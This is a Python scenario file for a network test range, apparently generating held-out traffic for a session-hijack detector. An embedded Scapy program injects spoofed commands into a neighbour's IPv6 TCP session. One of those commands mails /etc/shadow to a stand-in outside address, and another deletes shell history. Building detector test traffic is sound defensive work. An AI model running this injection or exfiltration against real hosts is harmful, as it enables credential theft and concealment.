"""Words put into an IPv6 connection, in portions, in the client's name."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
client, server, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
done = []
def look(packet):
    tcp = packet[TCP]
    if done or not len(tcp.payload) or packet[IPv6].src != client:
        return
    done.append(tcp.sport)
    number = tcp.seq + len(tcp.payload)
    for words in (b"cat /etc/shadow | mail -s x out@else.example\\n", b"rm -f .history\\n", b"exit 0\\n"):
        sendp(Ether(dst=packet.dst) / IPv6(src=client, dst=server, hlim=64) / TCP(
            sport=tcp.sport, dport=port, flags="PA", seq=number, ack=tcp.ack, window=500) / words)
        number += len(words)
        time.sleep(0.05)
sniff(filter=f"ip6 and tcp and src host {client} and dst port {port}", prn=look, timeout=float(sys.argv[4]))
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    server, pc3 = net.inside("files"), net.inside("pc3")
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    server.start("ncat", "-6", "-l", "-k", "-p", "513", "-e", "/bin/cat")
    net.quiet(0.5)
    pc3.start(
        "sh",
        "-c",
        f"(while n=$((n+1)); do echo ls -l project $n; sleep 1.1; done) | ncat -6 {server.ip6} 513",
    )
    net.quiet(3)
    with net.attack(
        "session-hijack",
        by=attacker,
        victims=[server.ip6, pc3.ip6],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [pc3.ip6]},
        frames=f"ip6 and ip6[6] == 6 and src host {pc3.ip6}",
        responses=f"ip6 and ip6[6] == 6 and host {pc3.ip6}",
    ):
        net.scapy(attacker, PROGRAM, pc3.ip6, server.ip6, "513", "5")
    net.quiet(3)


SCENARIO = Scenario(
    name="session-hijack-held-ipv6",
    about="A station puts three commands into a neighbour's IPv6 session, in the neighbour's name.",
    detectors=("session-hijack",),
    held_out=True,
    run=run,
)
